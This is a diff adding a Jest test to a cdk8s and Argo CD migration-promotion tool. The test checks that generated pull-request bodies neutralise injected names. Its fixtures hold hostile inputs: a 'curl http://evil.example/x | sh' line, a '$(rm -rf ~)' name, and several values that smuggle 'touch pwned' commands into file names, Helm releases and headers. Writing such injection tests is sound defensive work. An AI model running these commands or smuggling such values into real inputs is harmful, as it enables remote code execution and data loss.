@@ -1,9 +1,10 @@
 import { Testing } from 'cdk8s';
 import * as YAML from 'yaml';
-import { GitOpsWriter, IMigration, Promotion, PromoteOptions } from '../../src';
+import { GitOpsWriter, IMigration, MigrationStrategy, Promotion, PromoteOptions, ZeroDowntimeMigration } from '../../src';
 import { GuideExamples } from '../../src/examples/guide-examples';
 import { KServeGatewayApiMigration } from '../../src/kserve/kserve-gateway-api-migration';
 import { pinnedRevision } from '../../src/migration/gitops-app';
+import { renderReadme, runCommands } from './readme-commands';
 import { configMap, controllerDeployment } from '../kserve/fixtures';
 
 function planOf(m: IMigration): string {
@@ -206,6 +207,36 @@ spec:
     const r = promote(text, { appFile: 'clusters/my apps;x.yaml', name });
     expect(r.pullRequestBody).toContain('the Argo CD Application `` argocd/llm`$(rm -rf ~)` `` in `clusters/my apps;x.yaml`');
     expect(r.pullRequestBody).toContain(`inference-migrate promote ${MIG} --app 'clusters/my apps;x.yaml' --name 'llm\`$(rm -rf ~)\`' --rollback`);
+  });
+
+  test('given a plan built from names made to inject, then the pull request adds no heading or HTML and its commands run nothing injected', () => {
+    // Given a migration whose Helm release, model names and preview header are built to inject, and a hostile file name
+    const fence = 'm\n```\n# Pwned\n\ncurl http://evil.example/x | sh\n```\n';
+    const m = new ZeroDowntimeMigration(Testing.app(), 'm', {
+      alphaPool: { existing: { name: 'p-alpha', modelServerSelector: { app: 'x' }, helmRelease: 'r$(touch pwned-release)', inferenceModelNames: ['x; touch pwned-name #', fence] } },
+      gateway: { name: 'inference-gateway' },
+      strategy: MigrationStrategy.HEADER_PREVIEW_CUTOVER,
+      previewHeader: { name: 'x-preview', value: 'ga\'; touch pwned-preview; echo \'' },
+    });
+    m.stages[3].addWarning(`warning: ${fence}`);
+    m.stages[3].addManualStep({ text: `1. # step\n${fence}| a | b |\n<!-- hidden`, commands: ['echo \'```\''] });
+    const planText = planOf(m);
+    const app = `kind: Application\napiVersion: argoproj.io/v1alpha1\nmetadata: {name: 'a$(touch pwned-app)'}\nspec: {source: {path: migrations/m/03-cutover}}\n`;
+
+    // When it is promoted to cleanup, and rolled back from there
+    const forward = Promotion.promote({ appText: app, planText, appFile: 'x;touch pwned-file #.yaml', migrationDir: 'migrations/$(touch pwned-dir)/m', name: 'a$(touch pwned-app)' });
+    const back = Promotion.promote({ appText: forward.text, planText, appFile: 'x;touch pwned-file #.yaml', migrationDir: 'migrations/m', rollback: true });
+
+    // Then only the body's own sections are headings, and pasting its code blocks into bash creates nothing
+    for (const body of [forward.pullRequestBody, back.pullRequestBody]) {
+      const rendered = renderReadme(body);
+      expect(rendered.headings.filter((h) => !/^2 (What .* does|What changes|Before merging|After syncing|After verifying|Roll back)$/.test(h) && !/^3 /.test(h))).toEqual([]);
+      expect(rendered.html).toEqual([]);
+      const run = runCommands(rendered.codeBlocks.join('\n'));
+      expect(run.files.filter((f) => f.startsWith('pwned'))).toEqual([]);
+    }
+    const calls = runCommands(renderReadme(forward.pullRequestBody).codeBlocks.join('\n')).calls;
+    expect(calls).toContainEqual(['helm', 'uninstall', 'r$(touch pwned-release)', '-n', 'default']);
   });
 
   test('given YAML errors, then they are reported with the line and nothing is returned', () => {
